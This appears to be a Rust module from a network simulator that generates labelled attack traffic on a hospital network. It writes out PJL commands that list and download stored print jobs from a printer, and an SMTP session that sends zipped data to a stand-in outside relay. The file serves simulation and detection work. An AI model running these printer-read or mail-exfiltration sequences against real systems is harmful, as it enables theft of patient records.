//! Letters and print jobs: taken out of a printer's memory, and sent out by mail.

use super::{Cast, pc, scenario, stranger, within_normal};
use crate::attacks::{Family, Scenario};
use crate::clock::{MINUTE, ms, secs};
use crate::dice::Dice;
use crate::network::HostId;
use crate::sim::Sim;
use crate::tcp::{Connection, Side};
use crate::wire::noise;

/// All of them.
pub const ALL: &[Scenario] = &[
    within_normal(scenario(
        "printer-memory-read",
        "a PC reads out of its printer what others have printed",
        Family::Theft,
        &["T0811", "T0802", "T0882", "T0893", "T0861", "T1005", "T1119", "T1213", "T1083", "T1074", "T1602"],
        "Letters and labels of many patients lie in a printer's memory, and are taken from there.",
        8.9,
        memory_read,
    )),
    scenario(
        "mail-carries-letters",
        "a program on a PC sends letter after letter by mail, straight to a server outside",
        Family::Theft,
        &[
            "T0882",
            "T0811",
            "T0869",
            "T0885",
            "T0884",
            "T1020",
            "T1041",
            "T1048",
            "T1048.003",
            "T1071",
            "T1071.003",
            "T1119",
            "T1005",
            "T1567",
        ],
        "Patients' letters leave the hospital past the proxy and past its own mail.",
        17.1,
        carries_letters,
    ),
];

/// Jobs that are kept.
const JOBS: u32 = 26;

/// Printer Job Language (HP's technical reference, chapter 9): jobs go in at this port, and whatever the printer's disk has
/// can be had from it, by whoever prints (SoK: Exploiting Network Printers, 2017).
fn memory_read(sim: &mut Sim) -> Cast {
    let attacker = pc(sim, 0);
    let printers = &sim.ward.site().printers;
    let near = printers.iter().find(|printer| sim.net.host(**printer).zone == sim.net.host(attacker).zone);
    let Some(victim) = near.or(printers.first()).copied() else {
        return Cast { victims: Vec::new(), attackers: vec![attacker], end: sim.now };
    };
    let mut dice = sim.dice("printer-memory-read", 0);
    let folder = "0:\\saveDevice\\SavedJobs\\KeepJob";
    let listed: String =
        (0..JOBS).map(|job| format!("JOB{job:04} TYPE=FILE SIZE={}\r\n", 30_000 + 977 * job)).collect();
    let say = |command: &str| format!("\x1b%-12345X@PJL {command}\r\n\x1b%-12345X");
    let first = [
        (say("INFO ID"), "@PJL INFO ID\r\n\"HP LASERJET M608\"\r\n\x0c".to_owned()),
        (say("INFO FILESYS"), "@PJL INFO FILESYS [2 TABLE]\r\n\t0:\t7340032\t5120000\tREAD-WRITE\r\n\x0c".to_owned()),
        (
            say(&format!("FSDIRLIST NAME=\"{folder}\" ENTRY=1 COUNT=256")),
            format!("@PJL FSDIRLIST NAME=\"{folder}\" ENTRY=1\r\n{listed}\x0c"),
        ),
    ];
    let (mut open, mut at) = Connection::open(&mut sim.net, sim.now, attacker, victim, 9100);
    for (asked, told) in &first {
        at = open.send(&mut sim.net, at + ms(300), Side::Opener, asked.as_bytes()).arrived;
        at = open.send(&mut sim.net, at + ms(60), Side::Answerer, told.as_bytes()).arrived;
    }
    let mut job = 0;
    sim.repeat(at + secs(5), move |sim| {
        if job == JOBS {
            open.close(&mut sim.net, sim.now, Side::Opener);
            return None;
        }
        let name = format!("{folder}\\JOB{job:04}");
        let length = 30_000 + 977 * job as usize;
        let asked = say(&format!("FSUPLOAD NAME=\"{name}\" OFFSET=0 SIZE={length}"));
        let heard = open.send(&mut sim.net, sim.now, Side::Opener, asked.as_bytes()).arrived;
        let head = format!("@PJL FSUPLOAD FORMAT:BINARY NAME=\"{name}\" OFFSET=0 SIZE={length}\r\n");
        let told = [head.as_bytes(), noise::piece(&mut dice, length), b"\x0c"].concat();
        let at = open.send(&mut sim.net, heard + ms(90), Side::Answerer, &told).arrived;
        job += 1;
        Some(at + dice.skewed(secs(9), 0.6))
    });
    Cast { victims: vec![victim], attackers: vec![attacker], end: sim.now + 12 * MINUTE }
}

/// Letters that are sent.
const LETTERS: u32 = 18;

/// Message submission (RFC 6409) with a password in clear, as stealers carry out what they find (Agent Tesla, ATT&CK S0331):
/// nobody here sends mail himself, since it is kept outside and read over the web.
fn carries_letters(sim: &mut Sim) -> Cast {
    let outside = stranger(sim, "smtp.office-relay.example", 87);
    let attacker = pc(sim, 0);
    let mut dice = sim.dice("mail-carries-letters", 0);
    let mut number = 0;
    sim.repeat(sim.now + ms(10), move |sim| {
        number += 1;
        let (known, _) = sim.lookup(sim.now, attacker, outside, 0);
        let letter = letter(number, &mut dice);
        let own = sim.net.host(attacker).name.clone();
        mail(sim, known, [attacker, outside], &own, &letter);
        (number < LETTERS).then(|| sim.now + dice.skewed(3 * MINUTE, 0.5))
    });
    Cast { victims: vec![attacker], attackers: vec![outside], end: sim.now + 90 * MINUTE }
}

/// A mail with a letter attached (RFC 2046 section 5.1.3), in lines of 76 letters.
fn letter(number: u32, dice: &mut Dice) -> String {
    let lines = dice.log_normal(900.0, 0.7).clamp(120.0, 5_000.0) as usize;
    let attached: String = (0..lines).map(|_| noise::base64(dice, 76) + "\r\n").collect();
    format!(
        "From: <o1@office-relay.example>\r\nTo: <o1@office-relay.example>\r\nSubject: PC {number}\r\n\
         MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n\
         Content-Type: text/plain; charset=us-ascii\r\n\r\nLetters {number}\r\n--b1\r\n\
         Content-Type: application/octet-stream; name=\"letters-{number}.zip\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{attached}--b1--\r\n.\r\n"
    )
}

fn mail(sim: &mut Sim, at: crate::clock::Time, ends: [HostId; 2], own: &str, letter: &str) {
    let hello = format!("EHLO {own}\r\n");
    let lines: [&[u8]; 18] = [
        b"220 smtp.office-relay.example ESMTP\r\n",
        hello.as_bytes(),
        b"250-smtp.office-relay.example\r\n250-SIZE 52428800\r\n250 AUTH LOGIN PLAIN\r\n",
        b"AUTH LOGIN\r\n",
        b"334 VXNlcm5hbWU6\r\n",
        b"bzFAb2ZmaWNlLXJlbGF5LmV4YW1wbGU=\r\n",
        b"334 UGFzc3dvcmQ6\r\n",
        b"c2VjcmV0LW9mLWl0\r\n",
        b"235 2.7.0 Authentication successful\r\n",
        b"MAIL FROM:<o1@office-relay.example>\r\n",
        b"250 2.1.0 Ok\r\n",
        b"RCPT TO:<o1@office-relay.example>\r\n",
        b"250 2.1.5 Ok\r\n",
        b"DATA\r\n",
        b"354 End data with <CR><LF>.<CR><LF>\r\n",
        letter.as_bytes(),
        b"250 2.0.0 Ok: queued\r\n",
        b"QUIT\r\n",
    ];
    let (mut open, at) = sim.lines(at, ends, 587, &lines, ms(3));
    let at = open.send(&mut sim.net, at + ms(2), Side::Answerer, b"221 2.0.0 Bye\r\n").arrived;
    open.close(&mut sim.net, at, Side::Answerer);
}
